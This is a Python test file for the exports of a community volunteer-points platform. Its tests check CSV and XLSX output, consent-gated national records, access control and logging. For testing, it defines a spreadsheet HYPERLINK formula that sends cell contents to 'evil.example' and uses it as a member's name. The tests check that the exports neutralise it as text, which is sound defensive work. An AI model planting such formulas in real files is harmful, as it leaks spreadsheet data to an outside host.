"""Exports (导出): every kind in both formats, read back as a spreadsheet program would, on both
backends; formula injection made text; the national records only for members who consented."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest

import marketplace as mk
import marketplace_world as world
import points
from marketplace import exports, sheet_writer
from marketplace_world import T0

H = dt.timedelta(hours=1)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def history(db: points.Database) -> None:
    """c1: vol1 serves w1 for an hour, rated 5; a volunteer named like a formula serves an
    event; w2 waits for verification. c2: the outsider's record (another community)."""
    with db.transaction() as tx:
        world.build(tx)
        mk.add_member(tx, id="evil", name=EVIL, phone="13800000000", home_org_id="g1", now=T0)
        mk.grant_role(tx, mk.SYSTEM, "evil", "c1", mk.Role.VOLUNTEER, now=T0)
        mk.grant_role(tx, mk.SYSTEM, "vol1", "c1", mk.Role.PARTY_MEMBER, now=T0)
        wish = world.published(tx, id="w1")
        claim = mk.claim(tx, "vol1", "c1", "w1", now=T0 + H)
        mk.check_in(tx, "vol1", "c1", claim.id, code=wish.confirmation_code, now=T0 + 2 * H)
        mk.check_out(tx, "vol1", "c1", claim.id, now=T0 + 3 * H)
        mk.confirm(tx, "res", "c1", "w1", rating=5, now=T0 + 4 * H)
        world.post(tx, id="w2")
        for member, community, minutes in (("evil", "c1", 30), ("outsider", "c2", 45)):
            points.record_service(
                tx,
                community_id=community,
                member_id=member,
                category="文体活动",
                minutes=minutes,
                served_on=dt.date(2026, 12, 2),
                reference=f"event:e1:{member}",
                actor="staff",
                memo="社区运动会",
                now=T0,
            )


def export(
    db: points.Database,
    kind: str,
    fmt: str,
    *,
    org: str = "c1",
    period: str = "2026-12",
    actor: str | None = None,
) -> tuple[list[str], list[list[Any]], exports.Exported]:
    """The export read back: headers, rows (CSV: as text), and the counts."""
    out = io.BytesIO()
    with db.snapshot() as tx:
        who = actor or ("staff" if org == "c1" else "admin")
        plan = exports.plan(tx, who, org, kind, period, fmt, now=T0)
        done = exports.run(tx, plan, out, label=lambda words, code: f"<{code}>")
    data = out.getvalue()
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads it as UTF-8
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    else:
        book = openpyxl.load_workbook(io.BytesIO(data))
        sheet = book.worksheets[0]
        assert sheet.title == exports.KINDS[kind].title
        table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert len(table) - 1 == done.rows
    return [str(h) for h in table[0]], table[1:], done


@pytest.fixture
def world_db(db: points.Database) -> points.Database:
    history(db)
    return db


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_roster_lists_the_communitys_members_with_their_roles_and_neutralised_names(
    world_db: points.Database, fmt: str
) -> None:
    headers, rows, _ = export(world_db, "members", fmt)
    assert headers == [c.header for c in exports.KINDS["members"].columns]
    assert headers[:3] == ["成员编号", "姓名", "手机号"]
    by_id = {r[0]: r for r in rows}
    assert "outsider" not in by_id  # c2's volunteer is another tenant
    assert {"staff", "res", "vol1", "evil"} <= set(by_id)
    assert by_id["vol1"][6] == "<party_member>、<volunteer>"
    assert by_id["vol1"][7] == "家电维修"
    assert by_id["vol1"][3] == "阳光社区"
    if fmt == "csv":
        assert by_id["evil"][1] == "'" + EVIL  # text, not a formula
        assert by_id["evil"][2] == "13800000000"
    else:
        assert by_id["evil"][1] == EVIL  # a string cell, never a formula
        assert by_id["evil"][2] == "13800000000"


def test_an_xlsx_cell_like_a_formula_is_a_quoted_string_cell(world_db: points.Database) -> None:
    out = io.BytesIO()
    with world_db.snapshot() as tx:
        plan = exports.plan(tx, "staff", "c1", "members", "2026", "xlsx", now=T0)
        exports.run(tx, plan, out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "evil"]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert cells[0].quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hours_per_member_count_the_records_served_in_the_period(
    world_db: points.Database, fmt: str
) -> None:
    headers, rows, _ = export(world_db, "hours", fmt, org="s1")
    units = ("服务时长（分钟）", "服务时长（小时）")
    assert headers == ["社区", "成员编号", "姓名", "服务次数", *units]
    found = {r[1]: [*r[:3], int(r[3]), int(r[4]), float(r[5])] for r in rows}
    assert found["vol1"] == ["阳光社区", "vol1", "vol1", 1, 60, 1.0]
    assert found["outsider"] == ["月亮社区", "outsider", "outsider", 1, 45, 0.8]
    _, none, _ = export(world_db, "hours", fmt, org="s1", period="2026-11")
    assert none == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_points_per_member_split_earned_and_spent_and_end_at_the_balance(
    world_db: points.Database, fmt: str
) -> None:
    headers, rows, _ = export(world_db, "points", fmt)
    assert headers[3:8] == ["服务奖励", "调整", "兑换", "过期", "捐出"]
    vol1 = next(r for r in rows if r[1] == "vol1")
    earned, net, balance = (int(vol1[n]) for n in (3, 10, 11))
    assert earned > 0
    assert net == balance == earned


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wishes_with_state_times_and_rating_and_the_address_to_the_building(
    world_db: points.Database, fmt: str
) -> None:
    headers, rows, _ = export(world_db, "wishes", fmt)
    assert "评分" in headers
    by_id = {r[0]: r for r in rows}
    assert set(by_id) == {"w1", "w2"}
    w1 = by_id["w1"]
    assert w1[6] == "<closed>" or w1[6] == "<confirmed>"
    assert str(w1[headers.index("评分")]) == "5"
    assert w1[headers.index("地点")] == "幸福路1号3栋"
    submitted = w1[headers.index("提交时间")]
    expected = dt.datetime(2026, 12, 1, 9, 0)  # China time
    assert submitted == (expected.strftime("%Y-%m-%d %H:%M:%S") if fmt == "csv" else expected)
    assert by_id["w2"][6] == "<submitted>"
    assert by_id["w2"][headers.index("评分")] in ("", None)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rates_per_community_and_unit(world_db: points.Database, fmt: str) -> None:
    headers, rows, _ = export(world_db, "rates", fmt, org="s1")
    assert headers[0] == "名称"
    names = [r[0] for r in rows]
    assert names[:2] == ["阳光社区", "月亮社区"]
    assert "区卫健局" in names
    sunny = rows[0]
    assert float(sunny[headers.index("满意率（%）")]) == 100.0


def test_days_cover_every_day_of_the_period(world_db: points.Database) -> None:
    _, rows, _ = export(world_db, "days", "csv", period="2026-12-01..2026-12-03")
    assert [r[0] for r in rows] == ["2026-12-01", "2026-12-02", "2026-12-03"]
    assert rows[0][1] == "2"  # w1 and w2 posted on the first


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_national_records_carry_only_members_who_consented_and_count_the_others(
    world_db: points.Database, fmt: str
) -> None:
    _, rows, done = export(world_db, "records", fmt, org="s1", period="2026")
    assert rows == []
    assert done.withheld == 3  # vol1, evil, outsider: nobody consented yet
    with world_db.transaction() as tx:
        mk.record_consent(tx, "vol1", "vol1", given=True, now=T0)
        mk.record_consent(tx, "evil", "evil", given=True, now=T0)
        mk.record_consent(tx, "staff", "evil", given=False, community_id="c1", now=T0 + H)
    headers, rows, done = export(world_db, "records", fmt, org="s1", period="2026")
    assert done.withheld == 2
    assert [r[3] for r in rows] == ["vol1"]
    record = dict(zip(headers, rows[0], strict=True))
    assert record["活动名称"] == "陪老人去医院"
    assert str(record["服务时长（分钟）"]) == "60"
    assert record["服务地点"] == record["组织单位"] == "阳光社区"
    assert str(record["服务评价"]) == "5"
    headers, rows, done = export(world_db, "volunteers", fmt, org="s1", period="2026")
    assert (done.withheld, [r[1] for r in rows]) == (2, ["vol1"])
    volunteer = dict(zip(headers, rows[0], strict=True))
    assert volunteer["政治面貌"] == "中共党员"
    assert volunteer["证件号码"] in ("", None)  # Linli keeps none


def test_a_member_may_not_record_anothers_consent_outside_office(
    world_db: points.Database,
) -> None:
    with world_db.transaction() as tx, pytest.raises(mk.NotAllowed):
        mk.record_consent(tx, "vol2", "vol1", given=True, community_id="c1", now=T0)
    with world_db.transaction() as tx:
        assert mk.consent_of(tx, "vol1") is None
        mk.record_consent(tx, "vol1", "vol1", given=True, note="本人在线确认", now=T0)
        mk.record_consent(tx, "vol1", "vol1", given=False, now=T0 + H)
        now_in_force = mk.consent_of(tx, "vol1")
    assert now_in_force is not None
    assert (now_in_force.given, now_in_force.recorded_by) == (False, "vol1")


def test_only_office_of_the_area_may_export(world_db: points.Database) -> None:
    with world_db.snapshot() as tx:
        for actor, org in (("vol1", "c1"), ("staff", "c2"), ("staff", "s1")):
            with pytest.raises(mk.NotFound):
                exports.plan(tx, actor, org, "members", "2026", "csv", now=T0)
        assert exports.plan(tx, "admin", "d1", "members", "2026", "csv", now=T0).org_id == "d1"


@pytest.mark.parametrize(
    ("kind", "period", "fmt", "field", "code"),
    [
        ("nonsense", "2026", "csv", "kind", "export_kind"),
        ("members", "2026-13", "csv", "period", "period_format"),
        ("members", "2026-03..2026-01", "csv", "period", "period_order"),
        ("members", "2010..2026", "csv", "period", "period_too_long"),
        ("members", "2026", "pdf", "format", "export_format"),
    ],
)
def test_bad_requests_are_refused_by_field(
    world_db: points.Database, kind: str, period: str, fmt: str, field: str, code: str
) -> None:
    with world_db.snapshot() as tx, pytest.raises(mk.InvalidInput) as refused:
        exports.plan(tx, "staff", "c1", kind, period, fmt, now=T0)
    assert (refused.value.field, refused.value.reason.code) == (field, code)


def test_the_export_is_logged(world_db: points.Database) -> None:
    out = io.BytesIO()
    with world_db.snapshot() as tx:
        plan = exports.plan(tx, "staff", "c1", "members", "2026-Q4", "csv", now=T0)
        done = exports.run(tx, plan, out)
    with world_db.transaction() as tx:
        exports.record_export(tx, done, channel="page", now=T0)
    with world_db.snapshot() as tx:
        logged = tx.execute(mk.exports.exports.select()).mappings().one()
    assert (logged["actor_id"], logged["kind"], logged["period"], logged["rows"]) == (
        "staff",
        "members",
        "2026-Q4",
        done.rows,
    )
    assert plan.filename == "花名册_阳光社区_2026-Q4.csv"
    with world_db.snapshot() as tx:
        shown = exports.logged(tx, "staff", "c1")
        with pytest.raises(mk.NotFound):
            exports.logged(tx, "vol1", "c1")
    assert [(e.actor_name, e.kind, e.rows) for e in shown] == [("staff", "members", done.rows)]


def test_neutralising_is_for_text_only() -> None:
    out = io.BytesIO()
    rows = [["-1", -1, "+86", "@x", "\tx", "\rx", "ok", None, True]]
    sheet_writer.write(
        out, sheet_writer.Format.CSV, title="t", headers=list("abcdefghi"), rows=rows
    )
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert read[1] == ["'-1", "-1", "'+86", "'@x", "'\tx", "'\rx", "ok", "", "是"]


def test_a_members_own_data_copy_holds_their_consents(world_db: points.Database) -> None:
    with world_db.transaction() as tx:
        mk.record_consent(tx, "vol1", "vol1", given=True, now=T0)
        mk.record_consent(tx, "vol1", "vol1", given=False, now=T0 + H)
        copy = mk.export_member(tx, "vol1", "vol1", now=T0 + H)
    assert [(c["given"], c["recorded_by"]) for c in copy.consents] == [
        (True, "vol1"),
        (False, "vol1"),
    ]
